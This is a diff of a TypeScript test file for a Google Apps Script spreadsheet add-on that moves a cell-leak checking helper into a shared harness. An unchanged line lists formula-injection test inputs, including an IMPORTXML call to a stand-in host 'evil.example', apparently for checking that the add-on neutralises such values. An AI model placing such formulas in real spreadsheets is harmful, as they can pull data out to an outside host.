@@ -8,7 +8,7 @@
 import { describeDifferences, diffSnapshots, snapshotCells } from '../../../src/local/emulator';
 import { OUTPUT_COLUMNS, outputHeader } from '../../../src/core/workbook/output';
 import type { CheckSummary } from '../../../src/core/workbook/types';
-import { addSheet, harness, ownedColumnLetters, TODAY, type Harness } from './harness';
+import { addSheet, harness, leaksIn, ownedColumnLetters, TODAY, type Harness } from './harness';
 
 type Sheet = GoogleAppsScript.Spreadsheet.Sheet;
 type Spreadsheet = GoogleAppsScript.Spreadsheet.Spreadsheet;
@@ -16,20 +16,6 @@ type Spreadsheet = GoogleAppsScript.Spreadsheet.Spreadsheet;
 const HEADERS = [...OUTPUT_COLUMNS.map((c) => outputHeader(c, 'en')), ...OUTPUT_COLUMNS.map((c) => outputHeader(c, 'fr'))];
 const GOALS = 'Objectifs commerciaux 2027';
 const INJECTIONS = ['=IMPORTXML("http://evil.example/x","//a")', '+1', '-1', '@foo'];
-
-/** Text that must never appear in a cell the add-on wrote: leaked placeholders or message keys. */
-const LEAKS = /\bundefined\b|\bNaN\b|\bnull\b|\[object Object\]|\{[a-zA-Z]+\}|\b(?:plan|align|wb|check|verdict|status|criterion|period|cli|menu)\.[a-z][A-Za-z]*(?:\.[A-Za-z]+)*\b/;
-
-export function leaksIn(values: readonly (readonly unknown[])[], where: string): string[] {
-  const found: string[] = [];
-  values.forEach((row, r) =>
-    row.forEach((cell, c) => {
-      const text = typeof cell === 'number' && !Number.isFinite(cell) ? 'NaN' : String(cell);
-      if (LEAKS.test(text)) found.push(`${where}!R${r + 1}C${c + 1}: ${text.slice(0, 80)}`);
-    }),
-  );
-  return found;
-}
 
 function frDate(year: number, month: number, day: number): string {
   return `${String(day).padStart(2, '0')}/${String(month).padStart(2, '0')}/${year}`;
